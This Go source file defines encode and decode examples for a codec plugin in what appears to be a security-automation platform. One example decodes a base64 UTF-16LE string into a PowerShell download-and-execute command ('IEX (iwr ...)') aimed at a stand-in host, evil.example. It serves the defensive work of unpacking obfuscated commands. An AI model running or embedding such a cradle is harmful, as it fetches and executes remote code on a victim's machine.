package codec

import (
	"github.com/drawbridge-soar/drawbridge/sdk"
	"github.com/drawbridge-soar/drawbridge/sdk/abi"
)

var decodeExamples = []sdk.Example{{
	Name:   "what PowerShell runs",
	Input:  map[string]any{"text": "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQApAA==", "steps": []string{"base64", "utf-16le"}},
	Output: map[string]any{"text": "IEX (iwr http://evil.example)", "size": 29},
}, {
	Name:   "escaped twice",
	Input:  map[string]any{"text": "https%253A%252F%252Fevil.example%252F%253Fa%253D1%2526b%253D2", "steps": []string{"url", "url"}},
	Output: map[string]any{"text": "https://evil.example/?a=1&b=2"},
}, {
	Name:   "bytes",
	Input:  map[string]any{"text": "4d 5a 90 00", "steps": []string{"hex"}},
	Output: map[string]any{"data": "TVqQAA==", "size": 4},
}, {
	Name:   "a page",
	Input:  map[string]any{"text": "Tom &amp; J&eacute;r&#244;me=20=\r\n &lt;b&gt;", "steps": []string{"quoted-printable", "html"}},
	Output: map[string]any{"text": "Tom & Jérôme  <b>"},
}, {
	Name:  "not what it is said to be",
	Input: map[string]any{"text": "zz", "steps": []string{"url", "hex"}},
	Error: &abi.Error{Code: abi.CodeBadInput, Message: "/steps/1 isn't hex: encoding/hex: invalid byte: U+007A 'z'"},
}}

var encodeExamples = []sdk.Example{{
	Name:   "for an address",
	Input:  map[string]any{"text": "a b/c?d=é", "steps": []string{"url"}},
	Output: map[string]any{"text": "a%20b%2Fc%3Fd%3D%C3%A9"},
}, {
	Name:   "for a page",
	Input:  map[string]any{"text": "<script>", "steps": []string{"html"}},
	Output: map[string]any{"text": "&lt;script&gt;"},
}, {
	Name:   "a command for PowerShell",
	Input:  map[string]any{"text": "dir", "steps": []string{"utf-16le", "base64"}},
	Output: map[string]any{"text": "ZABpAHIA"},
}}
